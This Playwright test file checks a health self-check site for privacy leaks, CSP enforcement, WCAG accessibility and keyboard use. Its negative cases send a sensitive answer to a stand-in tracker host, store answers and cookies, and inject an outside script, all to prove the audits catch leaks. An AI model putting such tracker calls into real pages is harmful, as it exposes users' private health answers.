"""Quality gates over every page of the built site, in Chromium with the shipped headers:
privacy (no other origin, no cookie, no stored answers), Content-Security-Policy, accessibility
(axe-core, WCAG 2.2 A and AA, light and dark) and keyboard use. Each gate has a negative case."""

import json
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from .conftest import site_pages
from .helpers import (
    ENGINE_READY,
    RequestLog,
    answer_with_mouse,
    complete_answers,
    storage_snapshot,
    wait_for_requests_to_end,
)

WCAG_TAGS = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22a", "wcag22aa"]
# What Material itself may keep in the browser: display preferences, never an answer.
# (Material prefixes its keys with the site's path; the names below are its own.)
THEME_KEYS = ("__palette", "__consent", "__tabs", "__search", "__expand")
RECORD_VIOLATIONS = """
  window.__cspViolations = [];
  document.addEventListener("securitypolicyviolation",
    (e) => window.__cspViolations.push(`${e.violatedDirective} ${e.blockedURI}`));
"""


def origin(url):
    parts = urlsplit(url)
    return f"{parts.scheme}://{parts.netloc}"


SELF_CHECK_PAGES = ("/self-check/", "/embed/self-check/")


def audit_page(page, log, origin_url: str, path: str, start: int) -> list[str]:
    """What is wrong with one loaded page: other origins, CSP violations, stored data, runtime on articles."""
    problems = []
    others = [u for u in log.urls(start) if origin(u) != origin_url]
    violations = page.evaluate("window.__cspViolations || []")
    stored = storage_snapshot(page)
    theme_only = all(any(k.endswith(name) for name in THEME_KEYS) for k in [*stored["local"], *stored["session"]])
    if others:
        problems.append(f"{path}: requests to other origins: {others}")
    if violations:
        problems.append(f"{path}: CSP violations: {violations}")
    if not theme_only or stored["indexedDB"]:
        problems.append(f"{path}: stored something other than the theme's display preferences: {stored}")
    if path not in SELF_CHECK_PAGES and any("/pyodide/" in u for u in log.urls(start)):
        problems.append(f"{path}: an article page loaded the Python runtime")
    return problems


def test_every_page_is_private_and_keeps_to_its_content_security_policy(page, context, audited):
    built_site, csp_server = audited
    page.add_init_script(RECORD_VIOLATIONS)
    log = RequestLog().attach(context)
    problems = []
    paths = site_pages(built_site)
    assert len(paths) >= 6
    for path in paths:
        start = len(log.entries)
        response = page.goto(csp_server.origin + path, wait_until="load")
        assert response.headers.get("content-security-policy"), "the header is sent"
        if path in SELF_CHECK_PAGES:
            # The worker fetches the runtime and the engine, and nothing after it is ready.
            page.wait_for_selector(ENGINE_READY, state="attached", timeout=60000)
        # Rather than waiting for the network to stay quiet for 500 ms after each page (Playwright's
        # "networkidle"), wait for what the page actually fetches to end: see wait_for_requests_to_end.
        wait_for_requests_to_end(page, log, start)
        problems += audit_page(page, log, csp_server.origin, path, start)
    assert context.cookies() == []
    assert not problems, "\n".join(problems)


def test_the_privacy_audit_catches_a_leak(browser, site_server):
    """Negative case: a request to another origin, an answer in storage and a cookie are all caught."""
    context = browser.new_context(bypass_csp=True)
    page = context.new_page()
    log = RequestLog().attach(context)
    page.route("https://tracker.invalid/**", lambda route: route.fulfill(status=204, body=""))
    page.goto(site_server.origin + "/risks-and-side-effects/")
    page.evaluate("""() => {
        localStorage.setItem("answers", JSON.stringify({danger_now: "yes"}));
        document.cookie = "seen=1; path=/";
        return fetch("https://tracker.invalid/collect?q=danger_now", {mode: "no-cors"});
    }""")
    problems = audit_page(page, log, site_server.origin, "/risks-and-side-effects/", 0)
    assert any("tracker.invalid" in p for p in problems)
    assert any("stored something" in p and "danger_now" in p for p in problems)
    assert context.cookies() != []
    context.close()


def test_the_privacy_audit_waits_for_what_a_page_fetches_once_loaded(browser, site_server):
    """Negative case: a request to another origin that a page starts only after its load event (from a
    task its load handler queues) is waited for, and caught. (The pages' own policy would block it:
    bypass_csp lets it go out, as the leak test does.)"""
    context = browser.new_context(bypass_csp=True)
    page = context.new_page()
    log = RequestLog().attach(context)
    context.route("https://tracker.invalid/**", lambda route: route.fulfill(status=204, body=""))
    page.add_init_script("""addEventListener("load", () => setTimeout(() =>
        fetch("https://tracker.invalid/after-load", {mode: "no-cors"}), 0));""")
    page.goto(site_server.origin + "/risks-and-side-effects/", wait_until="load")
    wait_for_requests_to_end(page, log, 0)
    problems = audit_page(page, log, site_server.origin, "/risks-and-side-effects/", 0)
    assert any("tracker.invalid/after-load" in p for p in problems), problems
    context.close()


def test_the_self_check_works_under_the_policy_header(page, csp_server):
    page.add_init_script(RECORD_VIOLATIONS)
    page.goto(csp_server.origin + "/self-check/")
    answer_with_mouse(page, complete_answers(liver="yes"))  # while the engine starts, as the page allows
    page.wait_for_selector(ENGINE_READY, state="attached", timeout=60000)
    page.click("[data-sc-submit]")
    page.wait_for_selector("[data-sc-result]:not([hidden])")
    assert page.get_attribute("[data-sc-result]", "data-tier") == "review-first"
    assert page.evaluate("window.__cspViolations") == []


def test_the_policy_bites_an_injected_script_is_blocked(page, csp_server):
    page.add_init_script(RECORD_VIOLATIONS)
    failures = {}
    page.on("requestfailed", lambda request: failures.setdefault(request.url, request.failure))
    page.goto(csp_server.origin + "/")
    page.evaluate("""() => {
        const outside = document.createElement("script");
        outside.src = "https://tracker.invalid/pixel.js";
        document.head.append(outside);
        const inline = document.createElement("script");
        inline.textContent = "window.__injected = true";
        document.head.append(inline);
    }""")
    page.wait_for_function("() => window.__cspViolations.length >= 2")
    violations = page.evaluate("window.__cspViolations")
    assert any("tracker.invalid" in v for v in violations)
    assert any(v.startswith("script-src") and "inline" in v for v in violations)
    assert page.evaluate("window.__injected === undefined")
    assert failures.get("https://tracker.invalid/pixel.js") in ("csp", "net::ERR_BLOCKED_BY_CSP"), failures


def test_without_wasm_unsafe_eval_in_the_header_the_engine_fails_visibly(page, built_site):
    """Negative case for the worker's policy: a header without 'wasm-unsafe-eval' stops Pyodide, and
    the page says so quickly (the worker probes WebAssembly before loading the runtime)."""
    from sitekit.headers import read_headers_file
    from tests.conftest import SiteServer

    headers = read_headers_file(built_site)["/*"]
    headers["Content-Security-Policy"] = headers["Content-Security-Policy"].replace(" 'wasm-unsafe-eval'", "")
    with SiteServer(built_site, headers=headers) as server:
        page.goto(server.origin + "/self-check/")
        page.wait_for_selector("[data-sc-root][data-engine=failed]", state="attached", timeout=10000)
        assert "block WebAssembly" in page.text_content("[data-sc-status]")


# ---- accessibility ----

def axe_violations(page, axe_url, selector="html"):
    if not page.evaluate("typeof window.axe === 'object'"):
        page.add_script_tag(url=axe_url)
    # axe checks the page at rest: transitions still running end first (Material's "back to top"
    # button fades in when the page scrolls up, and half-faded text is not what a person reads).
    result = page.evaluate(
        "async ([selector, tags]) => { await Promise.all(document.getAnimations()"
        ".filter((a) => a.effect && a.effect.getComputedTiming().endTime !== Infinity)"
        ".map((a) => a.finished.catch(() => null))); "
        "return (await axe.run(document.querySelector(selector), "
        "{runOnly: {type: 'tag', values: tags}})).violations.map((v) => "
        "({id: v.id, help: v.help, nodes: v.nodes.map((n) => n.target.join(' ')).slice(0, 5)})); }",
        [selector, WCAG_TAGS],
    )
    return result


# Material's two palettes: "default" is the light one, "slate" the dark one.
SCHEMES = {"light": "default", "dark": "slate"}


def palette_of(page) -> str:
    """The palette the page shows: "light" or "dark"."""
    scheme = page.get_attribute("body", "data-md-color-scheme")
    return next(name for name, value in SCHEMES.items() if value == scheme)


def system_palette(page) -> str:
    """The palette the (emulated) system asks for."""
    return "dark" if page.evaluate("matchMedia('(prefers-color-scheme: dark)').matches") else "light"


def use_palette(page, name: str) -> None:
    """Switch the open page to the light or dark palette as the header's toggle does (the toggle is a
    label for one of Material's palette radios; clicking the radio is what the label does), with the
    system preference emulated to match. Returns once the new colours apply. Switching gives the same
    colours as opening the page in that palette: see test_switching_the_palette_in_the_page_gives_the_
    same_colours_as_opening_it_in_that_palette."""
    page.emulate_media(color_scheme=name)
    page.evaluate("(s) => document.querySelector(`input[name=__palette][data-md-color-scheme=${s}]`).click()",
                  SCHEMES[name])
    page.wait_for_function("(s) => document.body.getAttribute('data-md-color-scheme') === s "
                           "&& !document.body.hasAttribute('data-md-color-switching')", arg=SCHEMES[name])


def axe_in_both_palettes(page, axe_url, selector="html") -> list[tuple[str, dict]]:
    """axe's violations in the palette the page shows, then in the other one, switched in the page: the
    page is loaded and its state reached once for both. The page is left in the other palette."""
    first = palette_of(page)
    other = "dark" if first == "light" else "light"
    found = [(first, violation) for violation in axe_violations(page, axe_url, selector)]
    use_palette(page, other)
    found += [(other, violation) for violation in axe_violations(page, axe_url, selector)]
    return found


@pytest.fixture(params=["light", "dark"])
def scheme_page(request, browser):
    # bypass_csp lets the test add axe-core; the pages themselves are unchanged.
    context = browser.new_context(color_scheme=request.param, bypass_csp=True)
    yield context.new_page()
    context.close()


@pytest.fixture
def light_page(browser):
    """A page whose system preference is light, for axe (bypass_csp lets the test add axe-core)."""
    context = browser.new_context(color_scheme="light", bypass_csp=True)
    yield context.new_page()
    context.close()


def test_every_page_has_no_wcag_violations_in_light_and_dark(light_page, audited, axe_url):
    built_site, server = audited
    page = light_page
    problems = []
    for path in site_pages(built_site):
        page.goto(server.origin + path)
        # The palette follows the system (use_palette emulates the system preference it switches to, and
        # the theme keeps the choice: the pages open in light and in dark in turn).
        assert palette_of(page) == system_palette(page), path
        for scheme, violation in axe_in_both_palettes(page, axe_url):
            problems.append(f"{scheme} {path}: {violation['id']}: {violation['help']} at {violation['nodes']}")
    assert not problems, "\n".join(problems)


# Everything that can make two renderings of a page look different: each element's (and its ::before's and
# ::after's) colours, visibility and display, with the page's palette attributes and colour metadata.
COLOUR_PROPERTIES = ["color", "background-color", "background-image", "border-top-color", "border-right-color",
                     "border-bottom-color", "border-left-color", "outline-color", "text-decoration-color",
                     "box-shadow", "fill", "stroke", "opacity", "visibility", "display", "filter", "color-scheme"]
COLOURS = """(properties) => {
    const style = (el, pseudo) => {
        const computed = getComputedStyle(el, pseudo);
        return properties.map((p) => computed.getPropertyValue(p)).join("\\u001f");
    };
    const name = (el) => el.tagName.toLowerCase() + (el.id ? "#" + el.id : "") +
        [...el.classList].map((c) => "." + c).join("") + (el.hidden ? "[hidden]" : "");
    return [
        "body " + [...document.body.attributes].map((a) => `${a.name}=${a.value}`).sort().join(" "),
        "meta " + [...document.querySelectorAll("meta[name=color-scheme], meta[name=theme-color]")]
            .map((m) => `${m.name}=${m.content}`).join(" "),
        ...[...document.querySelectorAll("*")].map((el) =>
            [name(el), style(el), style(el, "::before"), style(el, "::after")].join("\\n")),
    ];
}"""


def colour_differences(opened: list[str], switched: list[str], label: str) -> list[str]:
    """How a page switched to a palette differs from the same page opened in it (nothing, if all is well):
    two results of COLOURS."""
    if len(opened) != len(switched):
        return [f"{label}: {len(opened)} elements and page details != {len(switched)}"]
    found = []
    for one, other in zip(opened, switched, strict=True):
        if one != other:
            name, *styles = one.split("\n")
            other_name, *other_styles = other.split("\n")
            changed = {f"{pseudo}{key}": (x, y)
                       for pseudo, style, other_style in zip(("", "::before ", "::after "), styles, other_styles,
                                                             strict=True)
                       for key, x, y in zip(COLOUR_PROPERTIES, style.split("\x1f"), other_style.split("\x1f"),
                                            strict=True)
                       if x != y}
            found.append(f"{label}: {name} / {other_name}: {changed}" if styles else f"{label}: {one} != {other}")
    return found


class _ElementKinds(HTMLParser):
    def __init__(self):
        super().__init__()
        self.kinds: set[str] = set()

    def handle_starttag(self, tag, attrs):
        self.kinds.add(tag)
        self.kinds.update(f"{tag}.{name}" for name in (dict(attrs).get("class") or "").split())


def covering_pages(site) -> list[str]:
    """A few pages that between them hold every kind of element the site's pages have (each tag, and each
    tag with each of its classes), picked greedily: the page with the most kinds not yet held, first."""
    kinds = {}
    for path in site_pages(site):
        parser = _ElementKinds()
        file = site / (path.lstrip("/") + ("index.html" if path.endswith("/") else ""))
        parser.feed(file.read_text(encoding="utf-8"))
        kinds[path] = parser.kinds
    left, chosen = set().union(*kinds.values()), []
    while left:
        best = max(kinds, key=lambda path: len(kinds[path] & left))
        chosen.append(best)
        left -= kinds[best]
    return chosen


def test_switching_the_palette_in_the_page_gives_the_same_colours_as_opening_it_in_that_palette(browser, audited):
    """What lets the axe tests check a page's other palette by switching the open page to it, instead of
    loading the page again: on pages that between them have every kind of element of the site, each
    element's computed colours are the same either way, from light to dark and from dark to light. (Only
    CSS keyed on the body's palette attributes, which the switch sets, decides the colours: the
    self-check's script has no palette logic, so its later states follow the same rules.)"""
    site, server = audited
    contexts = [browser.new_context(color_scheme=name) for name in SCHEMES]
    for context in contexts:
        # No CSS depends on the engine's state and these pages only compare colours: without the Python
        # runtime, the self-check pages do not start two engines at once.
        context.route("**/pyodide/**", lambda route: route.abort())
    pages = [context.new_page() for context in contexts]
    paths = covering_pages(site)
    assert "/self-check/" in paths and len(paths) < len(site_pages(site))
    differences = []
    for path in paths:
        for page in pages:
            page.goto(server.origin + path)
            assert palette_of(page) == system_palette(page), f"{path}: the palette follows the system"
        assert {palette_of(page) for page in pages} == set(SCHEMES)
        # Each page is switched to the palette the other one opened in, and compared with it. (The theme
        # keeps the choice, so in each context the next page opens in the palette it was switched to.)
        opened = {palette_of(page): page.evaluate(COLOURS, COLOUR_PROPERTIES) for page in pages}
        for page in pages:
            start = palette_of(page)
            end = "dark" if start == "light" else "light"
            use_palette(page, end)
            differences += colour_differences(opened[end], page.evaluate(COLOURS, COLOUR_PROPERTIES),
                                              f"{path} from {start} to {end}")
    for context in contexts:
        context.close()
    assert not differences, "\n".join(differences[:40])


def test_the_palette_comparison_notices_a_colour_that_differs(browser, site_server):
    """Negative case: one element's colour changed on the switched page is reported, and only it."""
    opened = browser.new_context(color_scheme="dark").new_page()
    switched = browser.new_context(color_scheme="light").new_page()
    for page in (opened, switched):
        page.goto(site_server.origin + "/risks-and-side-effects/")
    use_palette(switched, "dark")
    dark = opened.evaluate(COLOURS, COLOUR_PROPERTIES)
    assert colour_differences(dark, switched.evaluate(COLOURS, COLOUR_PROPERTIES), "same") == []
    switched.evaluate("() => { document.querySelector('.md-content h1').style.color = 'rgb(1, 2, 3)'; }")
    found = colour_differences(dark, switched.evaluate(COLOURS, COLOUR_PROPERTIES), "changed")
    assert len(found) == 1 and "h1" in found[0] and "rgb(1, 2, 3)" in found[0], found
    opened.context.close()
    switched.context.close()


def settled(page):
    """Wait until the step the page moved to has focus on its heading (the page moves focus, and
    scrolls, right after the frame that shows a step), so that axe measures a page at rest."""
    page.wait_for_function("""() => {
        const focused = document.activeElement;
        return focused && focused.matches("h2[tabindex='-1']") && focused.checkVisibility();
    }""", timeout=5000)


def test_every_self_check_step_and_result_has_no_wcag_violations_in_light_and_dark(light_page, site_server,
                                                                                     axe_url):
    page = light_page
    # The steps are checked while the engine starts, as the page lets people answer meanwhile (so the
    # first ones usually see the status line saying so); the review is checked again once it is ready.
    page.goto(site_server.origin + "/self-check/")
    problems = []
    answers = complete_answers(self_harm="yes", suicide_plan="no", sedatives=["opioids"])
    from .helpers import in_page_order

    def check(step, selector="[data-sc-root]"):
        problems.extend(f"{scheme} {step}: {v['id']} {v['nodes']}"
                        for scheme, v in axe_in_both_palettes(page, axe_url, selector))

    for number, (question, options) in enumerate(in_page_order(answers)):
        check(question["id"])
        if number == 0:
            page.click("[data-sc-continue]")  # once without an answer: the error state is checked too
            check("error")
        for option in options:
            page.check(f"#sc-{question['id']}-{option}")
        page.click("[data-sc-continue]")
        settled(page)
    check("review")
    page.wait_for_selector(ENGINE_READY, state="attached", timeout=60000)
    # With the result laid out in advance, unseen, in the page (aria-hidden, nothing in it focusable).
    page.wait_for_selector("[data-sc-result].sc-result--staged .sc-result__answers", state="attached")
    check("review with the engine ready and the result laid out in advance")
    page.click("[data-sc-submit]")
    page.wait_for_selector("[data-sc-result]:not([hidden])")
    settled(page)
    check("result", "html")
    assert not problems, "\n".join(problems)


def test_axe_catches_a_broken_page(scheme_page, site_server, axe_url):
    """Negative case: the gate fails when an image has no text alternative and a button no name."""
    page = scheme_page
    page.goto(site_server.origin + "/")
    page.evaluate("""() => {
        const img = document.createElement("img"); img.src = "data:image/gif;base64,R0lGODlhAQABAAAAACw=";
        const button = document.createElement("button");
        document.querySelector("article").append(img, button);
    }""")
    ids = {v["id"] for v in axe_violations(page, axe_url)}
    assert {"image-alt", "button-name"} <= ids



def test_axe_catches_a_contrast_problem_of_the_palette_switched_to(light_page, site_server, axe_url):
    """Negative case for checking the other palette by switching: text too faint only on the dark
    palette is caught in dark, once the page opened in light has been switched."""
    page = light_page
    page.goto(site_server.origin + "/")
    page.evaluate("""() => { const style = document.createElement("style");
        style.textContent = "[data-md-color-scheme=slate] .md-content p { color: #333 }";
        document.head.append(style); }""")
    found = axe_in_both_palettes(page, axe_url)
    assert {scheme for scheme, violation in found if violation["id"] == "color-contrast"} == {"dark"}, found

# ---- keyboard ----

TAG_FOCUSABLES = """() => {
    // Every visible element that takes keyboard focus gets a stable label; a radio group is one
    // Tab stop (arrow keys move within it), so its radios share one label.
    const labels = [];
    for (const el of document.querySelectorAll("*")) {
        if (el.tabIndex < 0 || el.disabled || el.hidden || !el.getClientRects().length) continue;
        const style = getComputedStyle(el);
        if (style.visibility === "hidden" || style.display === "none") continue;
        const label = el.type === "radio" ? `radio ${el.name}` : `${el.tagName.toLowerCase()} #${labels.length} ${
            (el.getAttribute("aria-label") || el.textContent || el.name || "").trim().slice(0, 40)}`;
        el.dataset.kb = label;
        if (!labels.includes(label)) labels.push(label);
    }
    return labels;
}"""

FOCUS_STATE = """() => {
    const el = document.activeElement;
    const styled = (node) => {
        const style = getComputedStyle(node);
        return (style.outlineStyle !== "none" && parseFloat(style.outlineWidth) > 0) || style.boxShadow !== "none";
    };
    // A visually hidden input may show its focus on its label, or on the label beside it (Material's
    // palette toggle).
    const beside = el.nextElementSibling && el.nextElementSibling.tagName === "LABEL" ? [el.nextElementSibling] : [];
    const visible = styled(el) || [...(el.labels || []), ...beside].some(styled);
    const again = el.hasAttribute("data-kb-seen");
    el.setAttribute("data-kb-seen", "");
    return {label: el.dataset ? el.dataset.kb || el.outerHTML.slice(0, 80) : null, tag: el.tagName, visible, again};
}"""


def tab_through(page, limit):
    reached, unseen = [], []
    for _ in range(limit):
        page.keyboard.press("Tab")
        focus = page.evaluate(FOCUS_STATE)
        if focus["tag"] == "BODY" or focus["again"]:
            break
        reached.append(focus["label"])
        if not focus["visible"]:
            unseen.append(focus["label"])
    return reached, unseen


@pytest.mark.parametrize("path", ["/", "/self-check/", "/risks-and-side-effects/"])
def test_keyboard_reaches_every_control_in_order_with_visible_focus(page, site_server, path):
    page.goto(site_server.origin + path)
    if path == "/self-check/":
        page.wait_for_selector(ENGINE_READY, state="attached", timeout=60000)
    expected = page.evaluate(TAG_FOCUSABLES)
    reached, unseen = tab_through(page, len(expected) + 20)
    missing = [label for label in expected if label not in reached]
    assert not missing, f"not reachable by Tab: {missing}"
    assert not unseen, f"focus not visible on: {unseen}"
    # In document order, so the order follows the page; the crisis lines come first after "Skip".
    assert [label for label in reached if label in expected] == [label for label in expected if label in reached]
    assert "Skip to content" in reached[0] and "988" in reached[1]


def test_the_keyboard_gate_notices_an_unreachable_control(page, site_server):
    """Negative case: a control that Tab cannot reach is reported as missing."""
    page.goto(site_server.origin + "/")
    page.evaluate("""() => { const b = document.createElement("button"); b.textContent = "Hidden from Tab";
        document.querySelector("article").append(b); }""")
    expected = page.evaluate(TAG_FOCUSABLES)
    page.evaluate("() => { document.querySelector('article button:last-of-type').tabIndex = -1; }")
    reached, _ = tab_through(page, len(expected) + 20)
    missing = [label for label in expected if label not in reached]
    assert missing == [label for label in expected if "Hidden from Tab" in label]


def test_stored_keys_are_recognised_as_display_preferences_only(page, site_server):
    """Toggling the palette stores Material's preference, which holds no answer."""
    page.goto(site_server.origin + "/self-check/")
    page.click("label[for='__palette_1'], [data-md-component=palette] label >> nth=0")
    stored = storage_snapshot(page)
    assert stored["local"], "the palette choice is stored by the theme"
    assert all(any(k.endswith(name) for name in THEME_KEYS) for k in stored["local"])
    assert "danger_now" not in json.dumps(stored)
